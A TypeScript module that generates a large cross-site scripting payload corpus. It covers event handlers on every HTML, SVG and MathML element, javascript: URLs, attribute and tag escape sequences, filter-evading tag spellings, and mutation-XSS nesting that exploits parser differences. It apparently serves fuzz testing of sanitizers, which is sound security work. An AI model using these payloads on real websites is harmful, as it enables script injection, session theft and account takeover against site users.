import { markdownVectors } from './markdown-vectors.ts'
import { AWAY, CALL, FIRE } from './payload.ts'
import { urlVectors } from './url-vectors.ts'

/** Elements of HTML, old ones too, of SVG and of MathML. */
const HTML =
  `a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote
  body br button canvas caption center cite code col colgroup content data datalist dd del details dfn dialog dir div dl
  dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h6 head header hgroup hr
  html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem
  meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture
  plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow slot small
  source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title
  tr track tt u ul var video wbr x x-y xmp xss`.split(/\s+/)
const SVG =
  `a animate animateMotion animateTransform circle clipPath defs desc discard ellipse feImage filter
  foreignObject g handler image line linearGradient listener marker mask metadata mpath path pattern polygon rect script
  set style switch symbol text textPath title tspan use view`.split(/\s+/)
const MATH =
  `annotation annotation-xml maction math merror mglyph mi malignmark mn mo mrow ms mstyle mtable mtext
  semantics`.split(/\s+/)

/** Every event handler that a browser knows, on an image, on text, in SVG. */
function handlers(names: readonly string[]): string[] {
  return names.flatMap((name) => [
    `<img src=x ${name}=${CALL}><p tabindex=0 ${name}="${CALL}">a</p>`,
    `<svg ${name}=${CALL}><circle r=9 ${name}='${CALL}'></svg><video src=x ${name}=${CALL}></video>`,
    `<body ${name}=${CALL}>`,
  ])
}

/** Every element with everything on it that may run, alone, in SVG, in MathML and where those hold HTML. */
function elements(): string[] {
  const all =
    `onclick=${CALL} onload=${CALL} onerror=${CALL} onfocus=${CALL} onbegin=${CALL} autofocus tabindex=0
    src=javascript:${CALL} href=javascript:${CALL} xlink:href=javascript:${CALL} data=javascript:${CALL}
    action=javascript:${CALL} formaction=javascript:${CALL} srcdoc='<script>${CALL}</script>'
    style="background:url(${AWAY})" background=${AWAY} poster=${AWAY} ping=${AWAY}`.replace(
      /\s+/g,
      ' ',
    )
  const made = (tag: string) => `<${tag} ${all}>${CALL}</${tag}>`
  return [
    ...HTML.map(made),
    ...HTML.map((tag) => `<svg><foreignObject>${made(tag)}</foreignObject></svg>`),
    ...HTML.map(
      (tag) => `<math><annotation-xml encoding="text/html">${made(tag)}</annotation-xml></math>`,
    ),
    ...SVG.map((tag) => `<svg>${made(tag)}</svg>`),
    ...SVG.map(
      (tag) =>
        `<svg><a id=a><text>a</text><${tag} href=#a attributeName=href from=javascript:${CALL} to=javascript:${CALL} values=javascript:${CALL} dur=1s begin=0s onbegin=${CALL} /></a></svg>`,
    ),
    ...MATH.map((tag) => `<math>${made(tag)}</math>`),
    ...MATH.map((tag) => `<math><${tag}><svg><style>${FIRE}</style></svg></${tag}></math>`),
  ]
}

/** Elements whose content one parser reads otherwise than another: what hides in one comes out of the other. */
const CONTAINERS: readonly (readonly [open: string, close: string])[] = [
  ...`style title textarea noscript xmp iframe noembed noframes plaintext template script select option table colgroup
    caption button form svg math p b a h1`
    .split(/\s+/)
    .map((tag): [string, string] => [`<${tag}>`, `</${tag}>`]),
  ['<svg><style>', '</style></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi><mglyph>', '</mglyph></mi></math>'],
  ['<math><annotation-xml encoding=text/html>', '</annotation-xml></math>'],
  ['<form><math><mtext></form><form><mglyph><style>', '</style></mglyph>'],
  ['<table><svg><desc><td>', '</td></desc></svg></table>'],
  ['<!--', '-->'],
  ['<!--[if gte IE 4]>', '<![endif]-->'],
  ['<![CDATA[', ']]>'],
  ['<?xml ', '?>'],
  ['<!DOCTYPE x [<!ENTITY y "', '">]>'],
]

function mutations(): string[] {
  const hidden = ([, close]: readonly [string, string]) => [
    `${close}${FIRE}`,
    `<p title="${close}${FIRE}">a</p>`,
    `<p id='${close}${FIRE}'>a</p>`,
    `<!--${close}${FIRE}-->`,
    `&lt;img src=x onerror=${CALL}&gt;`,
    `<a href="x">${FIRE}`,
  ]
  const deep = CONTAINERS.flatMap((outer, i) =>
    CONTAINERS.filter((_, j) => (i + j) % 3 === 0).map(
      (inner) => `${outer[0]}${inner[0]}<p title="${inner[1]}${outer[1]}${FIRE}">a`,
    ),
  )
  return [...CONTAINERS.flatMap((each) => hidden(each).map((inside) => each[0] + inside)), ...deep]
}

/** Ends of the attribute, the tag or the text that a vector may be put in. */
function escapes(): string[] {
  const ends = [
    '"',
    "'",
    '`',
    '&quot;',
    '&#34;',
    '&#x22;',
    '\\"',
    '">',
    "'>",
    '">>',
    '--!>',
    ']]>',
    '%22>',
    '\0">',
  ]
  return ends.flatMap((end) => [
    `${end}${FIRE}`,
    `${end} onerror=${CALL} onmouseover=${CALL} x=${end}`,
    `${end}<script>${CALL}</script>`,
    `${end}</title></textarea></style></script></noscript></p></article>${FIRE}`,
  ])
}

/** The same tag as browsers forgive it. */
function spellings(): string[] {
  return [
    `<script>${CALL}</script>`,
    `<ScRiPt >${CALL}</sCrIpT >`,
    `<script/x>${CALL}</script\n>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `<<script>${CALL}//<</script>`,
    `<script\0>${CALL}</script>`,
    `<script type=module>${CALL}</script>`,
    `<script>${CALL}`,
    `<img/src=x/onerror=${CALL}>`,
    `<img\u000csrc=x\u000conerror=${CALL}>`,
    `<img\nsrc=x\nonerror\n=\n"${CALL}"\n>`,
    `<img src=x onerror=&#97;lert&lpar;1&rpar;>`,
    `<img src=x onerror="${CALL}"`,
    `<img src=x onerror=${CALL}//`,
    `<IMG """><script>${CALL}</script>">`,
    `<img src=\`x\`onerror=${CALL}>`,
    `<img src=x:x onerror=${CALL} alt="a" =">`,
    `<img src="x" alt="\`onerror=${CALL} ">`,
    `<\u0130mg src=x onerror=${CALL}>`,
    `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
    `<a href=x onclick=${CALL} id=attributes name=childNodes>a</a>`,
    `<form id=x><input name=attributes><input name=parentNode onfocus=${CALL} autofocus></form>`,
    `<form id=a></form><button form=a formaction=javascript:${CALL}>b</button>`,
    `<details open ontoggle=${CALL}><summary>s</summary></details>`,
    `<div popover id=p onbeforetoggle=${CALL}>p</div><button popovertarget=p>b</button>`,
    `<div contenteditable onblur=${CALL} autofocus>a</div>`,
    `<x-y is=z onclick=${CALL}>a</x-y><template shadowrootmode=open>${FIRE}</template>`,
    `<iframe srcdoc="${FIRE}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${CALL}&lt;/script&gt;"></iframe>`,
    `<object type=text/html data="data:text/html,${FIRE}"></object>`,
    `<div style="x:expression(${CALL});-moz-binding:url(${AWAY});behavior:url(${AWAY})">a</div>`,
    `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${CALL}>a</p>`,
    `<meta http-equiv="Content-Security-Policy" content="x"><meta name=referrer content=unsafe-url>`,
    `<input type=hidden oncontentvisibilityautostatechange=${CALL} style=content-visibility:auto>`,
    `<link rel=import href=${AWAY}><link rel=stylesheet href=data:,*%7bx:expression(1)%7d>`,
    `<p lang='"onclick=${CALL} ' dir='"><script>${CALL}</script>'>a</p>`,
    `<pre><code class='language-"onclick=${CALL}'>a</code></pre>`,
    `<time datetime='"><img src=x onerror=${CALL}>'>a</time><abbr title='"onclick=${CALL} "'>b</abbr>`,
    `<ol start='"onclick=${CALL}'><li value='">${FIRE}'>a</ol><td colspan='1"onclick=${CALL}'>b</td>`,
    `<img src=a.jpg sizes='"onerror=${CALL}' srcset='a.jpg"onerror=${CALL} 1x, b.jpg 2x' width='"onerror=${CALL}'>`,
  ]
}

/** Vectors that work by where they begin and end, and may swallow what is behind them. */
export function shapedVectors(): string[] {
  return [...spellings(), ...escapes(), ...markdownVectors(), ...mutations()]
}

/**
 * Vectors made from a grammar: elements, event handlers, URLs, encodings, namespaces, places to hide in.
 *
 * @param handlerNames what a browser knows
 */
export function vectors(handlerNames: readonly string[]): string[] {
  return [...shapedVectors(), ...urlVectors(), ...elements(), ...handlers(handlerNames)]
}
